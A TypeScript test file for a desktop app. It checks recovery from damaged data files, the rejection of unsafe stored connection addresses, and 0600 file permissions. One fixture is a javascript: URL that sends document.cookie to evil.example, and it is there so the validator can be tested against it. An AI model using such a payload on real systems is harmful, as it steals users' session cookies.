/**
 * The desktop side's own files (issue 14 §4): a damaged queue or connection list never stops the
 * app from starting; it is moved aside, named to the user with what was kept, and the keychain
 * items are left alone. Stored connections are checked on load as on add. Every data file is
 * readable by the user only, whatever the umask.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDemoProvider, demoDatabaseFile } from '../../../src-main/demo/demo-provider.js';
import { silentLogger } from '../../../src-main/logging.js';
import { MemoryVault } from '../../../src-main/vault/memory-vault.js';
import { call, newCore, tempDir } from './fixtures/environment.js';

const stored = (id: string, baseUrl: string, label: string) => ({
  id,
  label,
  baseUrl,
  kind: 'clientarea',
  email: 'me@agency.example',
  isDemo: false,
  createdAt: '2026-11-01T10:00:00.000Z',
});
const asideOf = (dir: string, name: string) => fs.readdirSync(dir).filter((f) => f.startsWith(`${name}.corrupt-`));
const mode = (file: string) => fs.statSync(file).mode & 0o777;

describe('a damaged or unsafe data file at start', () => {
  it('moves a queue.sqlite SQLite cannot read aside, starts with an empty queue and names the file to the user', async () => {
    const dir = tempDir('damaged-queue');
    const garbage = Buffer.alloc(8192, 'this is not a database ');
    fs.writeFileSync(path.join(dir, 'queue.sqlite'), garbage);
    fs.writeFileSync(
      path.join(dir, 'connections.json'),
      JSON.stringify({ version: 1, connections: [stored('con_kept', 'https://my.host.example', 'Host Co')] }),
    );
    const core = newCore(dir, { vault: new MemoryVault() });
    try {
      expect(await call(core, 'queue.list', {})).toEqual([]);
      const [aside, ...more] = asideOf(dir, 'queue.sqlite');
      expect(more.filter((f) => !/-(wal|shm)$/.test(f))).toEqual([]);
      expect(aside).toMatch(/^queue\.sqlite\.corrupt-\d{4}-\d\d-\d\dT\d\d-\d\d-\d\d-\d{3}Z$/);
      expect(fs.readFileSync(path.join(dir, aside!))).toEqual(garbage);
      expect(core.startNotices()).toEqual([
        {
          id: `data-file:queue:${aside}`,
          title: 'The offline queue could not be read',
          body: expect.stringContaining(`queue.sqlite in the data folder was damaged and is kept as ${aside}.`),
          navigate: { view: 'invitations' },
        },
      ]);
      expect(core.startNotices()[0]!.body).toMatch(/answer those invitations again\. Your connections, sign-ins, accounts and settings were kept\./);
      // What the queue file did not hold is still there.
      expect((await call(core, 'connections.list', {})).map((c: { id: string }) => c.id)).toEqual(['con_kept']);
    } finally {
      await core.close();
    }
  });

  it('moves an unreadable connections.json aside, starts without connections, says so and keeps the keychain items', async () => {
    const dir = tempDir('damaged-connections');
    const torn = '{"version":1,"connections":[{"id":"con_lost","label":"Lost Co","baseUrl":"https://lost.exa';
    fs.writeFileSync(path.join(dir, 'connections.json'), torn);
    const vault = new MemoryVault();
    await vault.set('con_lost', 'refresh-token-of-lost');
    const core = newCore(dir, { vault });
    try {
      expect(await call(core, 'connections.list', {})).toEqual([]);
      const [aside] = asideOf(dir, 'connections.json');
      expect(aside).toMatch(/^connections\.json\.corrupt-/);
      expect(fs.readFileSync(path.join(dir, aside!), 'utf8')).toBe(torn);
      const [notice, ...others] = core.startNotices();
      expect(others).toEqual([]);
      expect(notice).toMatchObject({ title: 'Your list of connections could not be read', navigate: { view: 'connections' } });
      expect(notice!.body).toContain(`connections.json in the data folder was damaged and is kept as ${aside}`);
      expect(notice!.body).toMatch(/sign-ins were kept in the keychain, not deleted/);
      await core.idle();
      expect(await vault.get('con_lost')).toBe('refresh-token-of-lost');
    } finally {
      await core.close();
    }
  });

  it('moves damaged settings and favourites files aside too, and says what went back to its default', async () => {
    const dir = tempDir('damaged-prefs');
    fs.writeFileSync(path.join(dir, 'settings.json'), '{"version":1,"settings":{"theme":"da');
    fs.writeFileSync(path.join(dir, 'account-marks.json'), '\u0000\u0000\u0000');
    const core = newCore(dir, { vault: new MemoryVault() });
    try {
      expect(await call(core, 'settings.get', {})).toEqual({ language: null, theme: 'system' });
      const [settingsAside] = asideOf(dir, 'settings.json');
      const [marksAside] = asideOf(dir, 'account-marks.json');
      expect(core.startNotices().map((n) => [n.title, n.navigate])).toEqual([
        ['Your settings could not be read', { view: 'settings' }],
        ['Your favourites could not be read', { view: 'accounts' }],
      ]);
      expect(core.startNotices()[0]!.body).toContain(`settings.json in the data folder was damaged and is kept as ${settingsAside}.`);
      expect(core.startNotices()[1]!.body).toContain(`account-marks.json in the data folder was damaged and is kept as ${marksAside}.`);
    } finally {
      await core.close();
    }
  });

  it('drops stored connections whose address add would refuse, with a notification each, and keeps the good one', async () => {
    const dir = tempDir('unsafe-connections');
    const entries = [
      stored('con_good', 'https://my.host.example', 'Host Co'),
      stored('con_script', 'javascript:fetch("https://evil.example/"+document.cookie)', 'Scripted'),
      stored('con_plain', 'http://203.0.113.7/clientarea', 'Plain'),
      stored('con_local', 'http://127.0.0.1:4100', 'Local'),
    ];
    fs.writeFileSync(path.join(dir, 'connections.json'), JSON.stringify({ version: 1, connections: entries }));
    const vault = new MemoryVault();
    await vault.set('con_script', 'kept-secret');
    const core = newCore(dir, { vault });
    try {
      expect((await call(core, 'connections.list', {})).map((c: { id: string }) => c.id)).toEqual(['con_good', 'con_local']);
      const onDisk = JSON.parse(fs.readFileSync(path.join(dir, 'connections.json'), 'utf8'));
      expect(onDisk.connections.map((c: { id: string }) => c.id)).toEqual(['con_good', 'con_local']);
      const notices = core.startNotices();
      expect(notices.map((n) => [n.id, n.title])).toEqual([
        ['data-file:dropped:con_script', '“Scripted” was removed: its address is not safe'],
        ['data-file:dropped:con_plain', '“Plain” was removed: its address is not safe'],
      ]);
      expect(notices[0]!.body).toMatch(/is not a web address/);
      expect(notices[1]!.body).toMatch(/plain http/);
      for (const n of notices) expect(n.body).toMatch(/Its sign-in was kept in the keychain, not deleted/);
      expect(await vault.get('con_script')).toBe('kept-secret');
    } finally {
      await core.close();
    }
    // Dropped once: the next start has nothing more to say.
    const again = newCore(dir, { vault });
    try {
      expect(again.startNotices()).toEqual([]);
    } finally {
      await again.close();
    }
  });
});

describe('the modes of the data files', () => {
  let previous: number;
  beforeAll(() => {
    // The usual desktop umask, which left the WAL files 0644 before.
    previous = process.umask(0o022);
  });
  afterAll(() => {
    process.umask(previous);
  });

  it('creates queue.sqlite, its -wal and -shm and the JSON files 0600', async () => {
    const dir = tempDir('modes');
    const core = newCore(dir, { vault: new MemoryVault() });
    try {
      await call(core, 'settings.update', { theme: 'dark' });
      for (const file of ['queue.sqlite', 'queue.sqlite-wal', 'queue.sqlite-shm', 'settings.json']) {
        expect(mode(path.join(dir, file)), file).toBe(0o600);
      }
    } finally {
      await core.close();
    }
  });

  it('brings a -wal left 0644 by an older version to 0600 on open', async () => {
    const dir = tempDir('modes-old');
    await newCore(dir, { vault: new MemoryVault() }).close();
    fs.writeFileSync(path.join(dir, 'queue.sqlite-wal'), '');
    fs.chmodSync(path.join(dir, 'queue.sqlite-wal'), 0o644);
    fs.chmodSync(path.join(dir, 'queue.sqlite'), 0o644);
    const core = newCore(dir, { vault: new MemoryVault() });
    try {
      expect(mode(path.join(dir, 'queue.sqlite'))).toBe(0o600);
      expect(mode(path.join(dir, 'queue.sqlite-wal'))).toBe(0o600);
    } finally {
      await core.close();
    }
  });

  it('creates the demo provider’s database and its WAL files 0600', async () => {
    const dir = tempDir('modes-demo');
    const demo = createDemoProvider(dir, silentLogger());
    try {
      await demo.ensureStarted();
      const file = demoDatabaseFile(dir);
      for (const companion of [file, `${file}-wal`, `${file}-shm`]) {
        expect(fs.existsSync(companion), companion).toBe(true);
        expect(mode(companion), companion).toBe(0o600);
      }
    } finally {
      await demo.stop();
    }
  });
});
